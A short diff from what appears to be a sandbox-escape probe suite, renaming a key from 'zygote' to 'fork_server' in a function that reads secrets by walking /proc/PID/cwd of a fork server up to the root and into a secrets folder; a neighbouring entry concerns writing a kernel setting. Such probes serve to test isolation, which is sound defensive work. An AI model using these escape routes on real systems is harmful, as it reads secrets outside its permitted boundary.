@@ -185,8 +185,8 @@ def root_of_the_platform(facts: Facts) -> str:
 
 @way_out("reads secrets through /proc/PID/cwd of the fork server", "secret")
 def folder_of_the_fork_server(facts: Facts) -> str:
-    up = "../" * os.readlink(f"/proc/{facts['zygote']}/cwd").count("/")
-    return contents_below(f"/proc/{facts['zygote']}/cwd/{up}{facts['data']}/secrets")
+    up = "../" * os.readlink(f"/proc/{facts['fork_server']}/cwd").count("/")
+    return contents_below(f"/proc/{facts['fork_server']}/cwd/{up}{facts['data']}/secrets")
 
 
 @way_out("opens a setting of the kernel to write")
